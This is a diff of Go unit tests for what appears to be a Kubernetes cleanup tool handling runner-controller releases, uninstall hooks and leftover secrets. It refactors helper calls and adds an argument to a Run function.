-	overridden := deployment(ctrl("systems/arc", "", by("releases/arc")))
+	overridden := deployment("systems/arc", "", by("releases/arc"))
 	holds := "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: arc, namespace: systems}\n"
 	ofSetHook := Options{Scope: ScaleSet, Job: "gpu-arc-cleanup", RequireUninstalling: true, ReleaseNamespace: "runners", ControllerNamespaces: []string{"systems"}}
 	besides := asHook
@@ -886,10 +887,10 @@ func TestAReleaseElsewhereIsProved(t *testing.T) {
 		"somebody's record says so":   {asHook, []item{overridden, record("tenant", "releases", "arc", "deployed", holds)}, true, false},
 		"there is no record":          {asHook, []item{overridden}, true, false},
 		"a scale set's hook":          {ofSetHook, []item{overridden, record("releases", "releases", "arc", "deployed", holds)}, false, false},
-		"a controller in its own one": {besides, []item{deployment(ctrl("releases/arc", "", by("releases/arc"))), record("releases", "releases", "arc", "deployed", arcManifest)}, false, false},
+		"a controller in its own one": {besides, []item{deployment("releases/arc", "", by("releases/arc")), record("releases", "releases", "arc", "deployed", arcManifest)}, false, false},
 	} {
 		_, c := newAPI(t, append(whole(crdObjects()...), test.items...)...)
-		text := Run(t.Context(), c, graced(test.options, ample), quiet).Text(10)
+		text := Run(t.Context(), c, graced(test.options, ample), quiet, nil).Text(10)
 		if !strings.Contains(text, "no proof") || strings.Contains(text, override) != test.override || strings.Contains(text, uninstalls) != test.uninstalls {
 			t.Errorf("%s: %s", name, text)
 		}
@@ -900,13 +901,13 @@ func TestAReleaseElsewhereIsProved(t *testing.T) {
 func TestWhatComesUpWithoutEnd(t *testing.T) {
 	t.Parallel()
 	for name, test := range map[string]struct {
-		make func(i int) *Object
+		make func(i int) *object.Object
 		want Verdict
 	}{
-		"orphans":         {func(i int) *Object { return obj(fmt.Sprint("secret tenant/n", i), owned("er gone")) }, Done},
-		"protected":       {func(i int) *Object { return protected(fmt.Sprint("secret tenant/n", i)) }, Done},
-		"of a known set":  {func(i int) *Object { return protected(fmt.Sprint("secret runners/n", i), of("runners/set")) }, Residue},
-		"the same secret": {func(int) *Object { return protected("secret tenant/n") }, Residue},
+		"orphans":         {func(i int) *object.Object { return obj(fmt.Sprint("secret tenant/n", i), owned("er gone")) }, Done},
+		"protected":       {func(i int) *object.Object { return protected(fmt.Sprint("secret tenant/n", i)) }, Done},
+		"of a known set":  {func(i int) *object.Object { return protected(fmt.Sprint("secret runners/n", i), of("runners/set")) }, Residue},
+		"the same secret": {func(int) *object.Object { return protected("secret tenant/n") }, Residue},
 	} {
 		a, c := newAPI(t, stuck()...)
 		lists := 0
@@ -917,7 +918,7 @@ func TestWhatComesUpWithoutEnd(t *testing.T) {
 			}
 			return 0
 		}
-		if r := Run(t.Context(), c, graced(byHand, time.Second), quiet); r.Verdict != test.want || (len(r.Kept) == 1) != (test.want == Done) {
+		if r := Run(t.Context(), c, graced(byHand, time.Second), quiet, nil); r.Verdict != test.want || (len(r.Kept) == 1) != (test.want == Done) {
 			t.Errorf("%s: %s", name, r.Text(10))
 		}
 	}
@@ -931,7 +932,7 @@ func TestAnOwnerIsInTheNamespaceOfWhatItOwns(t *testing.T) {
 	a, c := newAPI(t, stuck(whole(
 		obj("secret tenant/held", elsewhere, finalizers("example.com/keep")), obj("pod tenant/held", elsewhere, finalizers("example.com/keep")), obj("pod tenant/plain", elsewhere))...)...)
 	start := time.Now()
-	r := Run(t.Context(), c, graced(byHand, time.Minute), quiet)
+	r := Run(t.Context(), c, graced(byHand, time.Minute), quiet, nil)
 	if r.Verdict != Done || time.Since(start) > 30*time.Second || slices.Contains(a.left(), "er runners/r") {
 		t.Errorf("%s after %s: %s", r.Verdict, time.Since(start), r.Text(10))
 	}
